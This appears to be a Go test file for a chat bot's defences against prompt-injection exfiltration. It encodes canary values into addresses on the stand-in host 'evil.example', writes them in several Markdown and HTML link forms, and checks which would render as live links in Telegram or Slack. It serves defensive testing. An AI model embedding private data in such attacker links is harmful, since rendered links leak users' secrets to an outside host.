package exfil

import (
	"fmt"
	"html"
	"regexp"
	"strings"
	"testing"

	"legwork/bot"
	"legwork/bot/markdown"
	"legwork/i18n"
	"legwork/tasks"
	"legwork/tasks/cards"
)

// linkForms are ways to write an address in an answer. N is a number of its own.
var linkForms = []string{
	"[words](URL)", "![a picture](URL)", "[words][N]\n\n[N]: URL", "<URL>", "see URL.", `<a href="URL">words</a>`,
}

// forAddress escapes what would end an address in Markdown.
var forAddress = strings.NewReplacer(" ", "%20", "\t", "%09", "\n", "%0A", `"`, "%22", "<", "%3C", ">", "%3E", "`", "%60", `\`, "%5C",
	"(", "%28", ")", "%29", "[", "%5B", "]", "%5D", "{", "%7B", "}", "%7D", "|", "%7C", "*", "%2A", "_", "%5F", "~", "%7E")

// addresses writes the canaries in each spelling as addresses.
func (a attack) addresses() (list []string) {
	for i, s := range a.spellings {
		for _, v := range s.write(a.canaries[i%len(a.canaries)], coverAddress) {
			text := forAddress.Replace(flat(v))
			if !strings.HasPrefix(text, "https:") { // it is not the known address, written in another way
				text = "https://evil.example/" + text
			}
			list = append(list, text)
		}
	}
	return list
}

// show runs the task, whose answer holds each address in each form. It returns what
// became of them, and how many there were. A line "entry" stands before each.
func (a attack) show(r *rig, s script) (outcome, int) {
	var text strings.Builder
	list := a.addresses()
	for i, address := range list {
		for j, form := range linkForms {
			n := fmt.Sprint(i*len(linkForms) + j)
			text.WriteString("entry\n\n" + strings.NewReplacer("URL", address, "N", n).Replace(form) + "\n\n")
		}
	}
	s.answer = text.String()
	before := len(r.Platform.Posts(bot.KindAnswer))
	got := r.open(a.in, s)
	for _, p := range r.Platform.Posts(bot.KindAnswer)[before:] {
		if out := linked(p.Text); len(out) >= len(got.out) {
			got.out, got.refused = out, strings.Count(p.Text, "entry")-len(out)
		}
	}
	if a.in.silent {
		return got, 0
	}
	return got, len(list) * len(linkForms)
}

var (
	telegramCode = regexp.MustCompile(`(?s)<(code|pre)\b.*?</(code|pre)>`)
	slackCode    = regexp.MustCompile("(?s)(`+).*?[^`](`+)")
	evilAddress  = regexp.MustCompile(`(?i)[^\s<>"(\[]*evil\.example[^\s<>")\]]*`)
	knownEvil    = regexp.MustCompile(`^(https://evil\.example/?c?|` + regexp.QuoteMeta(coverAddress) + `)$`)
)

// linked lists the addresses of the attacker that are, or may become, links in Telegram
// or Slack: all that is not code. Addresses that stand in the injection are no leaks.
func linked(text string) (list []string) {
	telegram, slack := 0, 0
	for _, p := range markdown.Telegram(text) {
		for _, found := range evilAddress.FindAllString(html.UnescapeString(telegramCode.ReplaceAllString(p.Text, " ")), -1) {
			if found = strings.TrimRight(found, "."); !knownEvil.MatchString(found) {
				list, telegram = append(list, found), telegram+1
			}
		}
	}
	for _, p := range markdown.Slack(text) {
		for _, found := range evilAddress.FindAllString(html.UnescapeString(slackCode.ReplaceAllString(p.MarkdownText, " ")), -1) {
			if found = strings.TrimRight(found, "."); !knownEvil.MatchString(found) {
				if slack++; slack > telegram { // otherwise it is counted already
					list = append(list, found)
				}
			}
		}
	}
	return list
}

// TestRigSeesLinks: in a task that has read nothing private, the rig sees all addresses.
func TestRigSeesLinks(t *testing.T) {
	a := newAttack(waysIn()[0], wayOut{shown: true}, false)
	a.from = nil
	got, sent := a.run(newRig(t, world(t), "look"))
	if len(got.out) < sent-10 { // without those that are the known one
		t.Errorf("%d of %d addresses are links", len(got.out), sent)
	}
}

// TestAnswerStaysTheSame: the answer that a chat has shown can be made again, to the byte,
// from the journal alone, as after a restart.
func TestAnswerStaysTheSame(t *testing.T) {
	texts, err := i18n.Load("")
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range waysIn() {
		if in.name != "web page" && in.name != "history" {
			continue
		}
		r := newRig(t, world(t), "look")
		newAttack(in, wayOut{shown: true}, true).run(r)
		posts := r.Platform.Posts(bot.KindAnswer)
		last := posts[len(posts)-1]
		v := tasks.NewView(r.Store, tasks.ID(last.Task))
		if err := v.Refresh(t.Context()); err != nil {
			t.Fatal(err)
		}
		again := cards.Card{View: v, Texts: texts}.Outcome().Text
		if again != last.Text || !strings.Contains(again, "`https://evil.example/canary") {
			t.Errorf("%s: the answer was %.200q, and is %.200q now", in.name, last.Text, again)
		}
	}
}
